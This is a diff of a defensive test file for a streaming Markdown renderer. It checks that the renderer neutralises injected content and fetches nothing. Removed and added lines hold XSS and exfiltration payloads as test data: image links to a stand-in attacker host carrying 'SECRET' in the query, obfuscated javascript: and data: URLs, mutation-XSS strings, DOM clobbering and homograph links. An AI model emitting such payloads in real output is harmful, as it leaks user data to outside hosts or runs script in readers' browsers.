@@ -1,216 +1,195 @@
 import { afterEach, beforeEach, expect, test } from 'vitest';
+import { FaultHost } from '../../download/testing/fault-host.ts';
 import { BlockSplitter } from './block-splitter.ts';
+import { formulasSettled } from './maths/formulas.ts';
 import { StreamingMarkdown } from './streaming-markdown.ts';
+import { ATTACK_CASES } from './testing/attack-cases.ts';
+import { ATTACK_CORPUS } from './testing/attack-corpus.ts';
+import { checkInvariants, signature } from './testing/invariants.ts';
 
-/** Everything that may be in the page after any answer. What is not listed here is a hole. */
-const ALLOWED: Readonly<Record<string, readonly string[]>> = {
-  P: ['dir', 'class'],
-  H3: ['dir'],
-  H4: ['dir'],
-  H5: ['dir'],
-  H6: ['dir'],
-  UL: [],
-  OL: ['start'],
-  LI: ['dir', 'class'],
-  BLOCKQUOTE: ['dir'],
-  STRONG: [],
-  EM: [],
-  DEL: [],
-  CODE: [],
-  BR: [],
-  HR: [],
-  A: ['dir', 'href', 'title', 'target', 'rel', 'referrerpolicy'],
-  SPAN: ['class', 'role', 'aria-label'],
-  IMG: ['src', 'alt'],
-  DIV: ['class', 'tabindex', 'role', 'aria-label'],
-  BUTTON: ['type', 'class'],
-  PRE: ['class', 'dir', 'tabindex', 'role', 'aria-label'],
-  TABLE: [],
-  THEAD: [],
-  TBODY: [],
-  TR: [],
-  TH: ['dir', 'class'],
-  TD: ['dir', 'class'],
-};
+/** Splits of one text at most; a longer one is split at bytes that lie evenly. */
+const SPLITS = 120;
 
-const CLASSES = /^(?:part|verbatim|task|place|picture|box(?: checked)?|code|bar|copy|table|long|center|left|right)$/;
-
-const CASES: Readonly<Record<string, readonly string[]>> = {
-  '1 image': ['![x](https://evil.test/?q=SECRET)', '![x](<https://evil.test/?q=SECRET> "t")'],
-  '2 reference image': [
-    '![x][a]\n\n[a]: https://evil.test/?q=1',
-    '![x][a]\n[a]: https://evil.test/?q=1\n',
-    '![a]\n\n[a]: //evil.test',
-  ],
-  '3 image in a link and in a table': [
-    '[![x](https://evil.test/a.png)](https://evil.test)',
-    '| a |\n|---|\n| [![x](https://evil.test/a.png)](javascript:alert(1)) |',
-  ],
-  '4 HTML that fetches': [
-    '<img src=https://evil.test/a srcset="https://evil.test/b 2x">',
-    '<picture><source srcset=https://evil.test/a><img></picture>',
-    'text <video poster=https://evil.test/a></video><svg><image href=https://evil.test/a /></svg> text',
-    '<img src=x onerror=alert(1)>',
-  ],
-  '5 address tricks': [
-    '[a](//evil.test) [b](https:\\\\evil.test) [c](https://good.test@evil.test) [d](https://u:p@evil.test:8080/)',
-    '[e](https:evil.test) [f](/\\evil.test) [g](https://evil.test%2f@good.test)',
-  ],
-  '6 CSS': [
-    '<style>@import "https://evil.test/a.css"</style>',
-    '<p style="background:url(https://evil.test/a)">x</p>',
-    '```js" class="x" onclick="alert(1)\ncode\n```',
-    '```"><img/src=https://evil.test>\ncode\n```',
-  ],
-  '7 script addresses': [
-    'javascript:alert(1)',
-    'JaVaScRiPt:alert(1)',
-    'java\tscript:alert(1)',
-    'java&#10;script:alert(1)',
-    'java\u0000script:alert(1)',
-    '&#106;avascript:alert(1)',
-    '&#x6A;avascript:alert(1)',
-    'java%73cript:alert(1)',
-    ' javascript:alert(1)',
-    '\u0001javascript:alert(1)',
-    'vbscript:msgbox(1)',
-    'data:text/html,<script>alert(1)</script>',
-    'data:image/svg+xml,<svg onload=alert(1)>',
-    'data:image/svg+xml;base64,PHN2Zz4=',
-    'blob:https://evil.test/1',
-    'file:///etc/passwd',
-    'javascript&colon;alert(1)',
-    'view-source:https://evil.test',
-  ].flatMap((address) => [
-    `[x](${address})`,
-    `[x](<${address}>)`,
-    `![x](${address})`,
-    `<${address}>`,
-    `[x][r]\n\n[r]: ${address}`,
-  ]),
-  '8 autolinks': [
-    '<javascript:alert(1)>',
-    'www.evil.test/"onmouseover="alert(1)',
-    'https://evil.test/<script>alert(1)</script>',
-    '<https://evil.test/" onclick="x>',
-  ],
-  '9 raw HTML': [
-    '<script>alert(1)</script>',
-    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
-    '<object data=https://evil.test></object>',
-    '<base href=https://evil.test>',
-    '<meta http-equiv=refresh content="0;url=https://evil.test">',
-    '<form action=https://evil.test><button>x</button></form>',
-    'a <script>alert(1)</script> b',
-    '- <script>alert(1)</script>\n- <link rel=stylesheet href=https://evil.test>',
-  ],
-  '10 mutation': [
-    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
-    '<math><mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
-    '<template><script>alert(1)</script></template>',
-    '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>',
-    '`</code><img src=x onerror=alert(1)>`',
-    '```\n</code></pre><img src=x onerror=alert(1)>\n```',
-    '&lt;img src=x onerror=alert(1)&gt;',
-  ],
-  '11 clobbering': [
-    '<a id=chat name=session>x</a>',
-    '# location\n\n# document {#forms}\n',
-    '[^1]\n\n[^1]: note',
-    '<form id=alcove><input name=parentNode></form>',
-  ],
-  '12 split in a scheme or a tag': [
-    'text [x](javascript:alert(1)) more',
-    'text <img src="https://evil.test/a" onerror="alert(1)"> more',
-    'text ![x](https://evil.test/abc',
-  ],
-  '13 disguised links': [
-    '[\u202Egro.doog\u202C\u200B](https://evil.test)',
-    '[good.test](https://xn--80ak6aa92e.test/) [аррӏе.test](https://аррӏе.test)',
-    '[https://good.test/](https://evil.test/)',
-  ],
-};
-
+let canary: FaultHost;
 let requests: string[] = [];
+let alarms: string[] = [];
 let observer: PerformanceObserver;
+let undo: (() => void)[] = [];
 
+/** A page without a policy of its own: it is the renderer that is tested, not a second wall behind it. */
 beforeEach(() => {
+  canary = new FaultHost();
   requests = [];
+  alarms = [];
   observer = new PerformanceObserver((list) => requests.push(...list.getEntries().map((entry) => entry.name)));
   observer.observe({ type: 'resource' });
+  const { alert, open } = window;
+  const { error } = console;
+  window.alert = () => void alarms.push('alert');
+  window.open = () => {
+    alarms.push('open');
+    return null;
+  };
+  console.error = (...words) => void alarms.push(`console: ${words.join(' ')}`);
+  const onError = (event: ErrorEvent): void => void alarms.push(`error: ${event.message}`);
+  addEventListener('error', onError);
+  undo = [
+    () => Object.assign(window, { alert, open }),
+    () => Object.assign(console, { error }),
+    () => removeEventListener('error', onError),
+  ];
 });
 
-afterEach(() => observer.disconnect());
+afterEach(() => {
+  observer.disconnect();
+  for (const back of undo) back();
+});
 
-function check(container: HTMLElement): void {
-  for (const node of container.querySelectorAll('*')) {
-    const attributes = ALLOWED[node.tagName];
-    expect(attributes, `element ${node.tagName}`).toBeDefined();
-    for (const { name, value } of node.attributes) {
-      expect(attributes, `${node.tagName} ${name}="${value}"`).toContain(name);
-      if (name === 'class') expect(value).toMatch(CLASSES);
-      if (name === 'href') expect(value).toMatch(/^(?:https?:\/\/[^@]+|mailto:[^?]*)$/);
-      if (name === 'src') expect(value).toMatch(/^data:image\/(?:png|jpeg|gif|webp);base64,/);
-    }
-    if (node instanceof HTMLAnchorElement && node.hasAttribute('href')) {
-      expect(node.rel).toBe('noopener noreferrer nofollow');
-      expect(node.referrerPolicy).toBe('no-referrer');
-      expect(node.target).toBe('_blank');
-    }
-  }
+/** The text with the canary where it names the attacker's host. */
+function armed(text: string): string {
+  const address = canary.url({ path: 'canary', size: 1 }).replace(/\?.*/, '');
+  return text.replaceAll('https://evil.test', address).replaceAll('evil.test', address.replace(/^https?:\/\//, ''));
 }
 
-async function settle(writer: StreamingMarkdown, container: HTMLElement): Promise<void> {
-  while (!writer.isSettled) await new Promise(requestAnimationFrame);
-  check(container);
-}
-
-async function draw(text: string, step: number): Promise<HTMLElement> {
+function begin(): { readonly container: HTMLElement; readonly writer: StreamingMarkdown } {
   const container = document.createElement('div');
   document.body.append(container);
-  const writer = new StreamingMarkdown(container);
-  for (let end = step; end < text.length; end += step) {
-    writer.update(text.slice(0, end), false);
-    check(container);
-  }
+  return { container, writer: new StreamingMarkdown(container) };
+}
+
+async function drawn(writer: StreamingMarkdown): Promise<void> {
+  while (!writer.isSettled) await new Promise(requestAnimationFrame);
+}
+
+async function whole(text: string): Promise<HTMLElement> {
+  const { container, writer } = begin();
   writer.update(text, true);
-  await settle(writer, container);
+  await drawn(writer);
+  await formulasSettled();
+  checkInvariants(container);
   container.remove();
   return container;
 }
 
-test.each(Object.entries(CASES))(
-  'attack %s leaves nothing but allowed elements and fetches nothing',
+/** One UTF-16 unit at a time, so that a character of two is cut as well. */
+async function unitByUnit(text: string): Promise<string> {
+  const { container, writer } = begin();
+  for (let end = 1; end < text.length; end++) {
+    writer.update(text.slice(0, end), false);
+    checkInvariants(container);
+  }
+  writer.update(text, true);
+  await drawn(writer);
+  checkInvariants(container);
+  container.remove();
+  return signature(container);
+}
+
+/** As a network cuts it: two packets, a decoder that keeps half a character for the next. */
+async function splitAtEveryByte(text: string, expected: string): Promise<void> {
+  const bytes = new TextEncoder().encode(text);
+  const stride = Math.max(1, Math.ceil(bytes.length / SPLITS));
+  for (let at = 1; at < bytes.length; at += stride) {
+    const decoder = new TextDecoder();
+    const { container, writer } = begin();
+    const first = decoder.decode(bytes.subarray(0, at), { stream: true });
+    writer.update(first, false);
+    checkInvariants(container);
+    writer.update(first + decoder.decode(bytes.subarray(at)), true);
+    await drawn(writer);
+    container.remove();
+    if (signature(container) !== expected) expect(signature(container), `split at byte ${at}`).toBe(expected);
+  }
+}
+
+/** What a person can read or reach must hold every word that was written, links' titles and labels aside. */
+function expectWords(container: HTMLElement, text: string): void {
+  const held = [...container.querySelectorAll('*')].flatMap((node) => [...node.attributes].map(({ value }) => value));
+  const haystack = `${container.textContent} ${held.join(' ')}`.toLowerCase();
+  const prose = text
+    .replace(/^.*(?:`{3}|~{3}).*$/gm, ' ')
+    .replace(/ +(?:"[^"\n]*"|'[^'\n]*'|\([^)\n]*\))\)/g, ')')
+    .replace(/&#?\w+;|%[0-9a-f]{2}|\[\^[^\]]*\]/gi, ' ');
+  for (const word of prose.toLowerCase().match(/(?<![\\\w])[a-z]{4,}(?!\w)/g) ?? []) expect(haystack).toContain(word);
+}
+
+async function attack(text: string): Promise<void> {
+  const container = await whole(text);
+  expectWords(container, text);
+  const expected = signature(container);
+  expect(await unitByUnit(text), text).toBe(expected);
+  const wellFormed = text.toWellFormed();
+  await splitAtEveryByte(wellFormed, wellFormed === text ? expected : signature(await whole(wellFormed)));
+}
+
+async function expectSilence(): Promise<void> {
+  await new Promise(requestAnimationFrame);
+  expect(await canary.requests()).toEqual([]);
+  expect(requests.filter((url) => url.includes('canary') || url.includes('evil'))).toEqual([]);
+  expect(alarms).toEqual([]);
+}
+
+test.each(Object.entries(ATTACK_CASES))(
+  'attack %s, whole, by the unit and split at every byte, does nothing',
   async (_, texts) => {
-    const before = Object.keys(window).length;
-    for (const text of texts) {
-      await draw(text, Number.POSITIVE_INFINITY);
-      await draw(text, 1);
-    }
-    expect(requests.filter((url) => !url.startsWith(location.origin))).toEqual([]);
-    expect(requests.filter((url) => url.includes('evil'))).toEqual([]);
-    expect(Object.keys(window).length).toBe(before);
+    const globals = Object.keys(window).length;
+    for (const text of texts) await attack(armed(text));
+    await expectSilence();
+    expect(Object.keys(window).length).toBe(globals);
   },
 );
 
+test.each(Object.entries(ATTACK_CORPUS))(
+  '%s, whole, by the unit and split at every byte, do nothing',
+  async (_, texts) => {
+    for (const text of texts) await attack(armed(text));
+    await expectSilence();
+  },
+);
+
+test('the corpus has more than two hundred texts, all different', () => {
+  const texts = Object.values(ATTACK_CORPUS).flat();
+  expect(new Set(texts).size).toBe(texts.length);
+  expect(texts.length).toBeGreaterThan(200);
+});
+
+test('the canary sings when something does ask it', async () => {
+  const image = new Image();
+  image.src = armed('https://evil.test/a.png');
+  await image.decode().catch(() => {});
+  expect(await canary.requests()).toHaveLength(1);
+});
+
+test.each([
+  '<div><img src="https://evil.test/a"></div>',
+  '<div><a href="javascript:alert(1)">x</a></div>',
+  '<div><p onclick="x">x</p></div>',
+  '<div><p id="chat">x</p></div>',
+  '<div><a href="https://good.test/">without a rel</a></div>',
+  '<div><span class="formula"><math href="https://evil.test"></math></span></div>',
+])('the check of what may be in the page finds %s', (html) => {
+  const page = new DOMParser().parseFromString(html, 'text/html');
+  expect(() => checkInvariants(page.body.firstElementChild ?? page.body)).toThrow();
+});
+
 test('raw HTML is shown as the text that it is', async () => {
-  const container = await draw('<script>alert(1)</script>\n\nand <b>bold</b>', 1);
+  const container = await whole('<script>alert(1)</script>\n\nand <b>bold</b>');
   expect(container.textContent).toBe('<script>alert(1)</script>and <b>bold</b>');
 });
 
 test('a picture is a placeholder that names its host', async () => {
-  const container = await draw('![A **map**](https://evil.test/map.png?q=SECRET)', 1);
+  const container = await whole('![A **map**](https://evil.test/map.png?q=SECRET)');
   expect(container.querySelector('.picture')?.textContent).toBe('Picture not fetched: A **map** (evil.test)');
 });
 
 test('a picture that is in the text itself is shown', async () => {
   const data = 'data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAACAkQBADs=';
-  const container = await draw(`![dot](${data})`, Number.POSITIVE_INFINITY);
+  const container = await whole(`![dot](${data})`);
   expect(container.querySelector('img')?.getAttribute('src')).toBe(data);
 });
 
 test('the host of a link is shown beside words that do not say it', async () => {
-  const shown = async (text: string): Promise<string | null> => (await draw(text, 1)).textContent;
+  const shown = async (text: string): Promise<string | null> => (await whole(text)).textContent;
   expect(await shown('[https://good.test/](https://evil.test/)')).toBe('https://good.test/ (evil.test)');
   expect(await shown('[good.test\u202E](https://good.test.evil.test/)')).toBe('good.test (good.test.evil.test)');
   expect(await shown('[here](https://аррӏе.test/)')).toBe('here (xn--80ak6aa92e.test)');
@@ -221,6 +200,7 @@ test('the host of a link is shown beside words that do not say it', async () => 
 const HUGE: Readonly<Record<string, string>> = {
   'a line of 1 MB': 'a'.repeat(1_000_000),
   'a line of 1 MB with spaces': 'word '.repeat(200_000),
+  '10 MB': `${'A line of an endless answer, **bold** here.\n'.repeat(10)}\n`.repeat(23_000),
   '10 000 nested quotes': '>'.repeat(10_000),
   '10 000 nested quotes and lists': '> - '.repeat(10_000),
   '10 000 brackets': '['.repeat(10_000),
@@ -229,6 +209,9 @@ const HUGE: Readonly<Record<string, string>> = {
   '10 000 underscores': '_a'.repeat(10_000),
   '10 000 backticks': '`a``'.repeat(10_000),
   '10 000 angle brackets': '<a '.repeat(10_000),
+  '10 000 dollars': '$a'.repeat(10_000),
+  '10 000 open formulas': '\\(a\\['.repeat(5_000),
+  '10 000 footnotes': '[^a]'.repeat(10_000),
   'a table of 100 000 cells': `${'|a'.repeat(10)}|\n${'|-'.repeat(10)}|\n${`${'|c'.repeat(10)}|\n`.repeat(10_000)}`,
   'a row of 10 000 cells': `${'|a'.repeat(10_000)}|\n${'|-'.repeat(10_000)}|\n`,
   'an open fence of 58 000 characters': `\`\`\`\n${'[](]['.repeat(11_600)}`,
@@ -236,17 +219,23 @@ const HUGE: Readonly<Record<string, string>> = {
 };
 
 test.each(Object.entries(HUGE))('attack 16, %s, is drawn in small pieces and no letter is lost', async (_, text) => {
-  for (const block of new BlockSplitter().push(text, true)) {
+  for (const block of new BlockSplitter().push(text.slice(0, 1_000_000), true)) {
     if (block.kind === 'text') expect(block.source.length).toBeLessThan(2 * 5_120);
   }
-  const container = document.createElement('div');
-  const writer = new StreamingMarkdown(container);
+  const { container, writer } = begin();
   for (let end = 0; end < text.length; end += Math.ceil(text.length / 8)) {
     writer.update(text.slice(0, end), false);
     await new Promise(requestAnimationFrame);
   }
   writer.update(text, true);
-  await settle(writer, container);
-  const count = (value: string): number => value.match(/[a-z]/g)?.length ?? 0;
+  await drawn(writer);
+  checkInvariants(container);
+  const count = (value: string): number => {
+    let letters = 0;
+    for (let at = 0; at < value.length; at++)
+      if (value.charCodeAt(at) >= 97 && value.charCodeAt(at) <= 122) letters += 1;
+    return letters;
+  };
   expect(count(container.textContent)).toBeGreaterThanOrEqual(count(text));
+  container.remove();
 });
